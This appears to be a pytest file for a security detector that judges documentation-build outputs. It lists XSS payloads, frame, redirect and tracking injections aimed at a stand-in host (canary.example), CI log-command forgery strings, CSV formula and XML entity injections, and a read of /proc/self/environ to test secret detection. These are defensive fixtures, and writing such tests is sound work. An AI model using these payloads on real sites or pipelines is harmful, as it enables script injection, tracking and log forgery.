"""What is taken for harm, and what is not: the judge of the attacks is judged here."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.attacks.attack import MARK, SECRET, Harm
from tests.attacks.building import Result
from tests.attacks.evidence import Known, find

HARMFUL = {
    "<script>pwned</script>": Harm.SCRIPT,
    "<SCRIPT SRC=//canary.example/x.js></SCRIPT>": Harm.SCRIPT,
    "<script src=_static/of-the-attacker.js></script>": Harm.SCRIPT,
    "<script type=module>pwned</script>": Harm.SCRIPT,
    "<p onclick=pwned>": Harm.SCRIPT,
    "<svg/onload=pwned>": Harm.SCRIPT,
    "<noscript><p title='</noscript><img src=x onerror=pwned>'>": Harm.SCRIPT,
    "<a href=javascript:pwned>": Harm.SCRIPT,
    "<a href='\x01 JaVa&Tab;Script&colon;pwned'>": Harm.SCRIPT,
    "<a href=data:text/html,pwned>": Harm.SCRIPT,
    "<svg><a xlink:href=javascript:pwned>x</a></svg>": Harm.SCRIPT,
    "<svg><animate attributeName=href values=javascript:pwned /></svg>": Harm.SCRIPT,
    "<form action=javascript:pwned>": Harm.SCRIPT,
    "<iframe srcdoc=pwned>": Harm.SCRIPT,
    "<style>p{}</style>": Harm.STYLE,
    "<p style='position:fixed'>": Harm.STYLE,
    "<iframe src=x>": Harm.FRAME,
    "<object data=x>": Harm.FRAME,
    "<form action=https://canary.example>": Harm.FRAME,
    "<button formaction=//canary.example>": Harm.FRAME,
    "<base href=/x>": Harm.REDIRECT,
    "<meta http-equiv=Refresh content='0;url=https://canary.example'>": Harm.REDIRECT,
    "<img src=//canary.example/x>": Harm.TRACKING,
    r"<img src=\\canary.example\x>": Harm.TRACKING,
    "<img srcset='x.png 1x, https://canary.example/x 2x'>": Harm.TRACKING,
    "<link rel=stylesheet href=https://canary.example>": Harm.TRACKING,
    "<link rel=dns-prefetch href=//canary.example>": Harm.TRACKING,
    "<p style='background:url(//canary.example/x)'>": Harm.TRACKING,
    "<p id=main><p id=main>": Harm.DISGUISE,
    "<a class='x sd-stretched-link'>": Harm.DISGUISE,
}

HARMLESS = [
    "<script src=_static/known.js></script>",
    "<script src=../_static/known.js?v=1></script>",
    '<script type="application/ld+json">{"x": "pwned"}</script>',
    "<p>javascript:alert(1) &lt;script&gt;</p>",
    "<p title='<script>pwned</script>'>",
    "<a href=https://canary.example>x</a>",
    "<a href=mailto:ada@example.org>x</a>",
    "<a href=research/javascript:x.html>x</a>",
    "<img src=x.png srcset='y.png 2x'>",
    "<img src='data:image/svg+xml,x'>",
    "<link rel=canonical href=https://example.org>",
    "<form action=search.html><input></form>",
    "<p style='width: 5em'>",
    "<div class=sd-card><a class=sd-stretched-link></a></div>",
    "<meta http-equiv=refresh content='0;url=../people/ada.html'>",
]


@pytest.fixture
def judged(tmp_path: Path) -> Callable[..., list[Harm]]:
    """Give the harms that are found in an output, as if a build had left it."""

    def judge(files: dict[str, bytes], log: str = "", crashed: str = "") -> list[Harm]:
        out = tmp_path / "build/html"
        for name, raw in files.items():
            (out / name).parent.mkdir(parents=True, exist_ok=True)
            (out / name).write_bytes(raw)
        result = Result(tmp_path, log, crashed)
        known = Known(files=frozenset({"_static/known.js"}))
        return [evidence.harm for evidence in find(result, known)]

    return judge


@pytest.mark.parametrize("html", HARMFUL)
def test_harm_on_a_page_is_seen(judged: Callable[..., list[Harm]], html: str) -> None:
    name = "research/x.html" if "../" in html else "x.html"

    assert HARMFUL[html] in judged({name: f"<!doctype html><body>{html}".encode()})


@pytest.mark.parametrize("html", HARMLESS)
def test_what_does_no_harm_is_none(judged: Callable[..., list[Harm]], html: str) -> None:
    name = "research/x.html" if "../" in html else "x.html"

    assert judged({name: f"<!doctype html><body>{html}".encode()}) == []


def _packed(content: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner", content)
    return file.getvalue()


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("x.txt", SECRET.encode()),
        ("x.zip", _packed(SECRET)),
        *((f"x{n}", base64.b64encode(b"y" * n + SECRET.encode() + b"zz")) for n in range(3)),
        ("x.env", max(Path("/proc/self/environ").read_bytes().split(b"\0"), key=len)),
    ],
)
def test_a_secret_is_seen_in_any_form(
    judged: Callable[..., list[Harm]], name: str, raw: bytes
) -> None:
    assert judged({name: raw}) == [Harm.DISCLOSURE]


@pytest.mark.parametrize(
    ("log", "harms"),
    [
        ("index.md:1: WARNING: x ::error::pwned\n", []),
        ("words\n  ::error file=x::pwned\n", [Harm.FORGERY]),
        ("words\r::set-output name=x::pwned\n", [Harm.FORGERY]),
        ("index.md:1: WARNING: x ##[error]pwned\n", [Harm.FORGERY]),
        ("index.md:1: WARNING: \x1b[31mx\x1b[39;49;00m\n", []),
        ("index.md:1: WARNING: \x1b]0;x\x07\n", [Harm.FORGERY]),
        (f"index.md:1: WARNING: {SECRET}\n", [Harm.DISCLOSURE]),
        ("MemoryError\n", [Harm.EXHAUSTION]),
    ],
)
def test_what_a_log_says(judged: Callable[..., list[Harm]], log: str, harms: list[Harm]) -> None:
    assert judged({}, log) == harms


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("x.bib", b"@misc{x,\n title = {One}\n}\n@misc{pwned,\n title = {Two}\n}\n"),
        ("x.ris", b"TY  - JOUR\r\nTI  - x\r\nTY  - pwned\r\n"),
        ("x.csv", b"one,=pwned()\n"),
        ("x.xml", b"<feed><pwned/></feed>"),
        ("x.xml", b"<feed>&x;</feed>"),
    ],
)
def test_forged_files_are_seen(judged: Callable[..., list[Harm]], name: str, raw: bytes) -> None:
    assert judged({name: raw}) == [Harm.FORGERY]


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("x.bib", b"@misc{x,\n title = {One {\\}} @misc{pwned}}\n}\n"),
        ("x.ris", b"TY  - JOUR\r\nTI  - x TY  - pwned\r\n"),
        ("x.csv", b"one,'=pwned()\n"),
        ("x.xml", b"<feed>&lt;pwned/></feed>"),
    ],
)
def test_files_that_only_speak_of_it_are_fine(
    judged: Callable[..., list[Harm]], name: str, raw: bytes
) -> None:
    assert judged({name: raw}) == []


def test_a_command_is_known_by_what_it_made(
    judged: Callable[..., list[Harm]], tmp_path: Path
) -> None:
    (tmp_path / "ran").touch()

    assert judged({"index.html": MARK.encode()}) == [Harm.COMMAND]
